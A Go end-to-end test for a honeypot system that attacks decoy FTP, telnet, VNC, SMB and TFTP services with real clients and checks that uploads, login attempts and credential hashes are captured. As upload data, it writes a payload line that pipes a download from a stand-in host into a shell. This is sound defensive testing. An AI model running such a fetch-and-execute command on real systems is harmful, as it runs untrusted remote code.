package main

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"decnet/internal/store"
	"decnet/internal/testutil"
)

const remoteFleet = `# the remote-access honeypots, for the end-to-end test through the store
[remote]
services = ftp, telnet, vnc, smb, tftp
[remote.ftp]
users = alice:wonderland
[remote.telnet]
password = Winter2026!
[remote.smb]
product = windows
`

// udpBinding finds where a UDP port of a decky's service listens in the
// fleet table ("tftp 69/udp" or "tftp 69/udp -> 10069").
var udpBinding = regexp.MustCompile(`(\w+) (\d+)/udp(?: -> (\d+))?`)

// TestRemoteAccessThroughStore attacks the remote-access honeypots of a
// `decnet up` fleet with real clients and checks what reaches the store:
// the events with the attacker's address, the credentials (clear or
// crackable) as bounties, and the uploaded bytes.
func TestRemoteAccessThroughStore(t *testing.T) {
	curl := testutil.RequireTool(t, "curl")
	expect := testutil.RequireTool(t, "expect")
	testutil.RequireTool(t, "telnet")
	vncsnapshot := testutil.RequireTool(t, "vncsnapshot")
	vncpasswd := testutil.RequireTool(t, "vncpasswd")
	smbclient := testutil.RequireTool(t, "smbclient")
	tftp := testutil.RequireTool(t, "tftp")

	const base = "127.77.204.10"
	routed := routeAttacker(t, "127.77.204.0/24")
	if !routed && testutil.InCI() {
		t.Fatal("CI runs as root: the attacker route must work")
	}
	src := attackerIP
	if !routed {
		src = "127.0.0.1"
	}
	dir := t.TempDir()
	ini := filepath.Join(dir, "fleet.ini")
	os.WriteFile(ini, []byte(remoteFleet), 0o600)
	n := startNode(t, filepath.Join(dir, "data"), freePort(t), "--config", ini, "--ip-base", base)
	tftpPort := ""
	for _, m := range udpBinding.FindAllStringSubmatch(n.output(), -1) {
		if m[1] == "tftp" {
			tftpPort = m[2]
			if m[3] != "" {
				tftpPort = m[3]
			}
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	attack := func(name string, args ...string) string {
		t.Helper()
		out, _ := exec.CommandContext(ctx, name, args...).CombinedOutput() // failed logins exit non-zero
		return string(out)
	}

	// ftp: a login and an upload.
	payload := filepath.Join(dir, "payload.sh")
	os.WriteFile(payload, []byte("#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"), 0o644)
	attack(curl, "-s", "-u", "alice:wonderland", "-T", payload, fmt.Sprintf("ftp://%s:%s/", base, n.port("remote", "ftp")))
	// telnet: a failed login, then the persona's password and a command.
	attack(expect, "-c", fmt.Sprintf(`set timeout 20; spawn telnet %s %s; expect "login: "; send "root\r"; expect "assword: "; send "guess\r";
		expect "login: "; send "root\r"; expect "assword: "; send "Winter2026!\r"; expect "# "; send "uname -a\r"; expect "# "; send "exit\r"; expect eof`,
		base, n.port("remote", "telnet")))
	// vnc: a password file with a wrong password.
	pwfile := filepath.Join(dir, "vncpw")
	pw := exec.Command(vncpasswd, "-f")
	pw.Stdin = strings.NewReader("hunter22\n")
	if b, err := pw.Output(); err != nil || os.WriteFile(pwfile, b, 0o600) != nil {
		t.Fatalf("vncpasswd: %v", err)
	}
	vncPort := n.port("remote", "vnc")
	attack(vncsnapshot, "-passwd", pwfile, fmt.Sprintf("%s::%s", base, vncPort), filepath.Join(dir, "shot.jpg"))
	// smb: a share listing with a password.
	attack(smbclient, "-L", "//"+base, "-p", n.port("remote", "smb"), "-U", "alice%secret")
	// tftp: an upload.
	implant := filepath.Join(dir, "implant.bin")
	os.WriteFile(implant, []byte("\x7fELF fake implant"), 0o644)
	attack(tftp, base, tftpPort, "-m", "binary", "-c", "put", implant, "implant.bin")

	token := n.token()
	from := func(l store.Log) bool { return l.AttackerIP == src && l.Decky == "remote" }
	sum := func(path string) string {
		b, _ := os.ReadFile(path)
		h := sha256.Sum256(b)
		return hex.EncodeToString(h[:])
	}
	for _, c := range []struct {
		what, search string
		match        func(store.Log) bool
	}{
		{"ftp upload", "service:ftp event:file_captured", func(l store.Log) bool { return l.Fields["sha256"] == sum(payload) }},
		{"telnet failed login", "service:telnet event:auth", func(l store.Log) bool {
			return l.Fields["password"] == "guess" && l.Fields["success"] == "false"
		}},
		{"telnet command", "service:telnet event:command", func(l store.Log) bool { return l.Fields["command"] == "uname -a" }},
		{"vnc challenge and response", "service:vnc event:auth", func(l store.Log) bool {
			return strings.HasPrefix(l.Fields["hash"], "$vnc$*") && l.Fields["success"] == "false"
		}},
		{"smb NetNTLMv2", "service:smb event:auth", func(l store.Log) bool {
			return l.Fields["username"] == "alice" && strings.HasPrefix(l.Fields["hash"], "alice::")
		}},
		{"tftp upload", "service:tftp event:file_captured", func(l store.Log) bool { return l.Fields["sha256"] == sum(implant) }},
	} {
		if findLog(n.logs(token, c.search), func(l store.Log) bool { return from(l) && c.match(l) }) == nil {
			t.Errorf("%s: no matching %q log from %s", c.what, c.search, src)
		}
	}

	var bounties store.Page[store.Bounty]
	n.get(token, "/bounty?bounty_type=credential&limit=1000", &bounties)
	for _, want := range []struct {
		service string
		payload map[string]string
	}{
		{"ftp", map[string]string{"username": "alice", "password": "wonderland"}},
		{"telnet", map[string]string{"username": "root", "password": "Winter2026!"}},
		{"vnc", map[string]string{"hash_format": "vnc (john)"}},
		{"smb", map[string]string{"username": "alice", "hash_format": "netntlmv2 (hashcat 5600)"}},
	} {
		found := false
		for _, b := range bounties.Data {
			ok := b.Service == want.service && b.AttackerIP == src
			for k, v := range want.payload {
				ok = ok && b.Payload[k] == v
			}
			found = found || ok
		}
		if !found {
			t.Errorf("no %s credential bounty %v from %s: %+v", want.service, want.payload, src, bounties.Data)
		}
	}
	n.stop()
}
